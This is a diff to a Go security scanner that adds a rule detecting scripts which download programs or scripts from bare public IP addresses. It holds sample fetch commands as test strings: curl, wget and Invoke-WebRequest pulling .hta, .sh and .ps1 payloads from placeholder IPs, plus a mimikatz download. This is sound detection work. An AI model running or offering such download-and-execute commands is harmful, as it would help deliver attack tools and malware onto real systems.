@@ -72,7 +72,7 @@ var webInject = &rule{
 }
 
 var attackToolFetch = &rule{
-	ID: "attack-tool-fetch", Class: "ingress tool transfer", Sev: high,
+	ID: "attack-tool-fetch", Class: "download and execute", Sev: high,
 	Msg: "downloads a post-exploitation tool by its name (credential dumpers, privilege-escalation scanners, Active Directory attack kits; ATT&CK T1105, T1588.002)",
 	Must: []string{
 		"curl -sLO https://github.com/example/mimikatz/releases/download/2.2.0/mimikatz_trunk.zip",
@@ -87,9 +87,76 @@ var attackToolFetch = &rule{
 	},
 }
 
+var bareIPPayload = &rule{
+	ID: "bare-ip-payload-fetch", Class: "download and execute", Sev: high,
+	Msg: "downloads a program or script (an .exe, .dll, .hta, .vbs, .ps1, .sh …) from a bare public address (ATT&CK T1105)",
+	Must: []string{
+		"curl --output upd.hta \"https://198.51.100.60/u/upd.hta\"",
+		"wget -q http://203.0.113.61:8080/x.sh",
+		"Invoke-WebRequest http://198.51.100.62/a.ps1 -OutFile a.ps1",
+	},
+	MustNot: []string{
+		"curl -o setup.exe http://10.0.0.5/setup.exe",
+		"curl -O https://downloads.example.org/tool/v2/tool.exe",
+		"curl -s http://198.51.100.63/status.json",
+	},
+}
+
 // scriptRules are the checks of this file, for the example test and the
 // list of rule ids.
-var scriptRules = []*rule{collectArchive, keyHarvest, findAppend, webInject, attackToolFetch}
+var scriptRules = []*rule{collectArchive, keyHarvest, findAppend, webInject, attackToolFetch, bareIPPayload}
+
+// payloadExtRe are the file types Windows runs by opening them, or a
+// script host or shell runs.
+var payloadExtRe = regexp.MustCompile(`\.(exe|dll|scr|cpl|msi|hta|vbs|vbe|js|jse|wsf|wsh|ps1|psm1|bat|cmd|lnk|sh)$`)
+
+// publicIPURL reports whether a URL's host is an IPv4 address outside the
+// private, loopback and link-local ranges.
+func publicIPURL(u string) bool {
+	h := urlHost(u)
+	if i := strings.LastIndexByte(h, ':'); i >= 0 {
+		h = h[:i]
+	}
+	var o [4]int
+	parts := strings.Split(h, ".")
+	if len(parts) != 4 {
+		return false
+	}
+	for i, p := range parts {
+		if p == "" || len(p) > 3 {
+			return false
+		}
+		n := 0
+		for _, r := range p {
+			if r < '0' || r > '9' {
+				return false
+			}
+			n = n*10 + int(r-'0')
+		}
+		if n > 255 {
+			return false
+		}
+		o[i] = n
+	}
+	switch {
+	case o[0] == 10, o[0] == 127, o[0] == 0, o[0] == 169 && o[1] == 254, o[0] == 172 && o[1] >= 16 && o[1] < 32, o[0] == 192 && o[1] == 168:
+		return false
+	}
+	return true
+}
+
+// fetchesPayload reports a URL to a bare public address whose path ends
+// in a program or script.
+func fetchesPayload(u string) bool {
+	if !publicIPURL(u) {
+		return false
+	}
+	l := asciiLower(u)
+	if i := strings.IndexAny(l, "?#"); i >= 0 {
+		l = l[:i]
+	}
+	return payloadExtRe.MatchString(strings.TrimRight(l, "\"'"))
+}
 
 // attackTools are post-exploitation tools that have no use but attack,
 // as their releases and scripts are named (a download of one is the
@@ -211,9 +278,15 @@ func scriptChecks(a *analysis, put func(r *rule, sev sdk.Severity, s, e int)) {
 			if !strings.Contains(x, "://") {
 				continue
 			}
-			if u := urlRe.FindString(x); u != "" && namesAttackTool(u) {
+			u := urlRe.FindString(x)
+			if u == "" {
+				continue
+			}
+			if namesAttackTool(u) {
 				put(attackToolFetch, 0, in.start, in.end)
-				break
+			}
+			if fetchesPayload(u) {
+				put(bareIPPayload, 0, in.start, in.end)
 			}
 		}
 	}
